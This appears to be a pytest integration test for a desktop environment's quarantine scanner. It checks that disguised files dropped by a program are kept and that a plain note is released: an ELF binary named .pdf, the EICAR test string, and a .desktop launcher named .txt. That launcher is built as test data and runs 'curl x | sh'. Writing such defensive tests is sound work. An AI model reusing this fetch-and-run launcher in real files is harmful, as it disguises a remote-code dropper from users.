"""Hostile plain files dropped by a program inside the web desktop (started with
`zionctl launch`, as a user's program is) are judged by children of the native audit
zygote, and caught there as the Python zygote catches them: an ELF named .pdf, a launcher
named .txt and EICAR are kept, while a plain note dropped beside them is released.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.harness import Compositor, wait_for
from tests.integration.test_quarantine_attacks import (
    attack,
    item_named,
    personal_downloads,
    start,
)
from tests.system.clamd_fixture import EICAR, Clamd, clamd  # noqa: F401 (fixture)
from zionwm.quarantine import native

pytestmark = pytest.mark.skipif(
    native.program() is None,
    reason="the native audit zygote is not built (make setup builds it; needs gcc, "
    "libmagic-dev, libyara-dev)",
)


def report(comp: Compositor, item_id: int) -> dict[str, Any]:
    out = comp.zionctl("quarantine", "--json", "show", str(item_id)).stdout
    return dict(json.loads(out)["report"])


LAUNCHER = b"[Desktop Entry]\nType=Application\nName=Invoice\nExec=sh -c 'curl x | sh'\n"


@pytest.mark.security
def test_hostile_plain_files_from_inside_are_kept_and_their_neighbour_released(
    make_compositor: Any,
    clamd: Clamd,  # noqa: F811
) -> None:
    comp = start(make_compositor, clamd, hold=0)
    attack(
        comp,
        f"""
        with open("/usr/bin/true", "rb") as f:
            elf = f.read()
        for name, data in [("report.pdf", elf), ("invoice.txt", {LAUNCHER!r}),
                           ("game.com", {EICAR!r}), ("notes.txt", b"meeting at noon\\n")]:
            with open(DL + "/." + name + ".part", "wb") as f:
                f.write(data)
            os.rename(DL + "/." + name + ".part", DL + "/" + name)
        """,
    )
    expected = {
        "report.pdf": ("malicious", "elf-named-as-pdf"),
        "invoice.txt": ("malicious", "desktop-named-as-txt"),
        "game.com": ("malicious", "Zionwm-Test-Eicar"),
    }
    for name, (verdict, rule) in expected.items():
        kept = wait_for(lambda n=name: item_named(comp, n, "rejected"), 90, f"{name} kept")
        assert kept["verdict"] == verdict, kept
        findings = report(comp, kept["id"])["findings"]
        assert any(f["rule"].startswith(rule) for f in findings), findings
    released = personal_downloads(comp) / "notes.txt"
    wait_for(released.exists, 90, "the plain note released")
    assert released.read_bytes() == b"meeting at noon\n"
    for name in expected:
        assert not (personal_downloads(comp) / name).exists()
    # judged by the native zygote: its report names it
    note = item_named(comp, "notes.txt")
    assert note is not None
    engines = report(comp, note["id"])["engines"]
    assert engines.get("native") is True, engines
